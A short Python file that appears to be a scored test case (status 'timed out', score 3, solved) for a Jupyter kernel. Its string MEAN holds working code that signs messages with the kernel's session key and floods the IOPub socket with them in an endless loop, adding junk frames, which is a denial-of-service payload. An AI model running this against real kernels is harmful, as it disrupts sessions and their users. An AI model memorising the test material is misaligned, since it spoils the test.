"""Messages without end, about this call and about nothing, as fast as they can be sent."""

STATUS = "timed out"
SCORE = 3
SOLVED = True
MEAN = """\
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")["header"]
frames = [kernel.session.pack(part) for part in ({"msg_id": "m", "msg_type": "x"}, parent, {}, {})]
message = [b"x", b"<IDS|MSG>", kernel.session.sign(frames), *frames]
while True:
    for _ in range(100):
        kernel.iopub_socket.send_multipart(message)
    kernel.iopub_socket.send_multipart([b"junk"])
"""
